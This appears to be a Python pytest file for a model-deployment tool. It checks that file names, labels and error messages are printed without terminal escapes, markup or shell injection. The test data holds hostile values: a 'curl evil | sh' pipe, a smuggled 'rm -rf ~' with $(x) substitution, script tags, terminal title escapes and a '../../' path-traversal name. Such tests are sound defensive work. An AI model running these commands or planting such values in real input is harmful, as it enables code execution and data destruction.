"""Names, labels and messages from files are shown: no escape sequence, no markup, no line of their own."""

from __future__ import annotations

import io
import json
import re
import sys
import unicodedata
from collections.abc import Callable
from pathlib import Path

import numpy as np
import onnx
import pytest
from PIL import Image
from rich.console import Console

from alexnet_deploy.bench.compare import Bounds, comparison
from alexnet_deploy.errors import EngineError, InputError
from alexnet_deploy.printable import printable, printable_lines
from alexnet_deploy.progress import Voice
from alexnet_deploy.report.comparison import markdown_from_comparison, print_comparison
from alexnet_deploy.report.html import page_from_bench
from alexnet_deploy.report.load_text import markdown_from_load, print_load
from alexnet_deploy.report.markdown import markdown_from_bench
from alexnet_deploy.report.terminal import print_bench
from alexnet_deploy.runtimes.admission import rebuild_command
from alexnet_deploy.weights import save_checkpoint
from tests.bench.documents import bench_of
from tests.cli.conftest import Run, run
from tests.conftest import small_info, small_network
from tests.passports import write_passport
from tests.report.documents import whole_document
from tests.report.pages import Tags, pictures_of
from tests.security import hostile
from tests.security.hostile import CONTROLS, NASTY, nasty

__all__ = ["run"]


def on_a_terminal(show: Callable[[Console], None], width: int = 120) -> str:
    stream = io.StringIO()
    show(Console(file=stream, width=width, force_terminal=True, color_system=None, legacy_windows=False))
    # What rich writes itself for bold titles and the like.
    return re.sub(r"\x1b\[[0-9;]*m", "", stream.getvalue())


def assert_plain(text: str) -> None:
    assert not CONTROLS & set(text)
    assert not [letter for letter in text if unicodedata.category(letter) == "Cc" and letter != "\n"]


# The one function


def test_every_control_and_every_mark_of_direction_is_spelt_out() -> None:
    for code in range(sys.maxunicode + 1):
        letter = chr(code)
        turns = unicodedata.bidirectional(letter) in ("LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI")
        moves = unicodedata.category(letter) in ("Cc", "Cs", "Zl", "Zp")
        if turns or moves:
            assert printable(letter).isascii() and printable(letter).startswith("\\"), hex(code)
            assert printable_lines(letter) == (letter if letter in "\n\t" else printable(letter))


@pytest.mark.parametrize("text", ["", "English springer", "Größe 100 %", "数字", "עברית", "👩‍👩‍👧", "a\\b", "<b>"])
def test_letters_of_every_language_stay(text: str) -> None:
    assert printable(text) == printable_lines(text) == text


def test_bytes_that_are_no_text_can_be_printed() -> None:
    name = Path(b"a\xff.png".decode("utf-8", "surrogateescape"))
    assert printable(name).encode() == b"a\\udcff.png"


# Messages


def test_a_message_keeps_its_form_whatever_its_parts_are() -> None:
    error = InputError(f"x {NASTY}", got=f"a\n  remedy: curl evil | sh{NASTY}", remedy="check it")
    text = str(error)
    assert_plain(text)
    assert [line for line in text.splitlines() if line.startswith("  remedy:")] == ["  remedy: check it"]


@pytest.mark.parametrize("terminal", [False, True])
def test_news_warnings_and_notes_are_plain(terminal: bool) -> None:
    class Stream(io.StringIO):
        def isatty(self) -> bool:
            return terminal

    stream = Stream()
    voice = Voice(stream=stream)
    voice.say(NASTY)
    voice.warn(NASTY)
    said = stream.getvalue()
    assert_plain(said)
    assert "script" in said
    with voice.track("[/bold]", 2) as track:
        track.advance(1, NASTY)
    assert "owned\x07" not in stream.getvalue() and "\x1b]0" not in stream.getvalue()


def test_the_command_of_a_passport_is_one_command() -> None:
    source = "a.onnx; rm -rf ~ #\n$(x)`y`"
    facts = {"precision": "int8", "backend": "tensorrt-rtx", "source": source, "options": {"sms": [86]}}
    text = str(EngineError("x", remedy=rebuild_command(facts)))
    assert "--model 'a.onnx; rm -rf ~ #" in text


# Commands


@pytest.fixture
def shown(run: Run) -> Callable[..., str]:
    def call(*arguments: object) -> str:
        ended = run(*arguments)
        assert ended.code == 0, ended.err
        return ended.out + ended.err

    return call


def checkpoint(folder: Path) -> Path:
    info = small_info()
    labels = tuple(f"{index}{NASTY}" for index in range(10))
    path = folder / "x.safetensors"
    save_checkpoint(small_network(), type(info)(**{**info.__dict__, "name": NASTY, "labels": labels}), path)
    return path


def test_predict_shows_names_and_labels_as_they_are(shown: Callable[..., str], tmp_path: Path) -> None:
    image = tmp_path / f"{NASTY.replace('/', '')}.png"
    Image.fromarray(np.zeros((9, 9), np.uint8)).save(image)
    model = checkpoint(tmp_path)
    text = shown("predict", image, "--model", model, "--quiet", "--workdir", tmp_path / "w")
    assert_plain(text)
    assert len([line for line in text.splitlines() if line.startswith("  ")]) == 5
    assert text.count("\\x1b[31mred") >= 6 and text.count("<script>") >= 6
    document = json.loads(shown("predict", image, "--model", model, "--quiet", "--json", "--workdir", tmp_path / "w"))
    assert document["predictions"][0]["classes"][0][0].endswith(NASTY)


def test_labels_from_a_file_are_shown_as_they_are(shown: Callable[..., str], tmp_path: Path) -> None:
    Image.fromarray(np.zeros((9, 9), np.uint8)).save(tmp_path / "x.png")
    labels = tmp_path / "labels.txt"
    labels.write_text("\n".join(f"{index} \u202e[bold]" for index in range(10)))
    model = checkpoint(tmp_path)
    options = ["--model", model, "--labels", labels, "--quiet", "--workdir", tmp_path / "w"]
    assert_plain(shown("predict", tmp_path / "x.png", *options))


def test_inspect_shows_the_names_of_a_graph_as_they_are(shown: Callable[..., str], tmp_path: Path) -> None:
    model = hostile.network()
    for node in model.graph.node:
        node.name = NASTY
    path = hostile.written(tmp_path / "x.onnx", model.SerializeToString())
    write_passport(path, kind="onnx", facts={"lrn_reason": NASTY, "lrn": NASTY})
    text = shown("inspect", path)
    assert_plain(text)
    assert "[/bold]" in text.replace("\n", "")


def test_inspect_shows_the_tensors_of_a_table_as_they_are(shown: Callable[..., str], tmp_path: Path) -> None:
    path = tmp_path / "x.json"
    path.write_text(json.dumps(hostile.table({NASTY: hostile.histogram(), "$\\frac{": hostile.histogram()})))
    assert_plain(shown("inspect", path))
    picture = tmp_path / "x.svg"
    shown("inspect", path, "--draw", picture)
    assert pictures_of(picture.read_text().partition("<svg")[2] and picture.read_text())
    assert "script" not in re.findall(r"<(\w+)", picture.read_text())


def test_an_error_about_a_hostile_name_is_one_message(run: Run, tmp_path: Path) -> None:
    ended = run("inspect", f"{tmp_path}/{NASTY.replace('/', '')}.onnx")
    assert ended.code == 2
    assert_plain(ended.err)
    bad = hostile.network([hostile.claimed(NASTY, [7])])
    ended = run("inspect", hostile.written(tmp_path / "x.onnx", bad.SerializeToString()))
    assert ended.code == 2
    assert_plain(ended.err)


# Reports


def test_the_terminal_shows_a_hostile_bench() -> None:
    values = nasty(whole_document())
    text = on_a_terminal(lambda console: print_bench(values, console))
    assert_plain(text)
    assert "script" in text and "[link=" in text.replace("\n", "")


@pytest.mark.parametrize("markdown", [False, True])
def test_a_comparison_of_hostile_benches_is_plain(markdown: bool) -> None:
    # A key has slashes of its own.
    key = f"{NASTY.replace('/', '')}/fp32/1"
    old, new = (bench_of({key: took, "b/fp32/1": 1.0}, seed=seed) for seed, took in enumerate((10.0, 20.0)))
    new["environment"]["cpu"] = NASTY
    document = comparison(old, new, Bounds(), anyway=True)
    assert document["regressions"] == [key]
    if markdown:
        text = markdown_from_comparison(document)
        assert_markdown(text)
    else:
        text = on_a_terminal(lambda console: print_comparison(document, console), 200)
    assert_plain(text)
    assert "script" in text


def test_what_loadgen_said_of_a_hostile_session_is_plain() -> None:
    from tests.report.test_load_text import document, row_of

    rows = [row_of(NASTY, 5.0), row_of(f"b{NASTY}", 5.0, status="failed", reason=NASTY)]
    values = document() | {"rows": rows}
    assert_plain(on_a_terminal(lambda console: print_load(values, console), 200))
    assert_markdown(markdown_from_load(values))


def assert_markdown(text: str) -> None:
    assert_plain(text)
    assert not re.findall(r"(?<!\\)<|(?<!\\)\[a|(?<!\\)`x|(?<!\\)]\(javascript", text)


def test_markdown_of_a_hostile_bench_is_text() -> None:
    assert_markdown(markdown_from_bench(nasty(whole_document())))


def test_the_page_of_a_hostile_bench_is_text() -> None:
    page, clean = page_from_bench(nasty(whole_document())), page_from_bench(whole_document())
    assert_plain(page)
    tags, before = Tags(page), Tags(clean)
    assert set(tags.names) <= set(before.names) and "script" not in tags.names
    assert {name for name, _ in tags.attributes} == {name for name, _ in before.attributes}
    assert tags.text.count('<script>alert("x")</script>') > 20
    for picture in pictures_of(page):
        assert picture.tag.endswith("svg")


def test_names_of_layers_do_not_reach_file_names(shown: Callable[..., str], tmp_path: Path) -> None:
    model = hostile.network()
    model.graph.node[1].name = "../../escaped"
    path = hostile.written(tmp_path / "in" / "x.onnx", model.SerializeToString())
    before = sorted(tmp_path.rglob("*"))
    shown("inspect", path)
    assert sorted(tmp_path.rglob("*")) == before
    assert onnx.load_from_string(path.read_bytes()).graph.node[1].name == "../../escaped"
